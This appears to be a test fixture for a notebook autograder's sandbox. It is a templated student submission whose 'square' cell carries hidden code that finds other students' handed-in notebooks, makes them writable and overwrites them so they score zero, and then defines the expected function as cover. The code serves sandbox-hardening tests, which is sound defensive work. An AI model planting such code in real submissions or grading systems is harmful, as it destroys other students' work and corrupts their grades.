# Extra kind: writes into the course's submitted/ folder: it overwrites the honest students'
# handed-in notebooks, so that a student graded after it (or any regrade) gets 0.
# The sandbox must keep submitted/ out of reach.
# %% square
# @@CODE@@
import glob
import os

print("started-@@NAME@@")
for path in glob.glob(os.path.join("@@COURSE@@", "submitted", "*honest*", "*", "*.ipynb")):
    try:
        os.chmod(path, 0o644)
        with open(path, "w") as handle:
            handle.write("overwritten by @@MARK@@\n")
        print("overwrote", path)
    except OSError as error:
        print("cannot write", path, error)


def square(x):
    return x * x
# %% cube
# @@CODE@@
def cube(x):
    return x ** 3
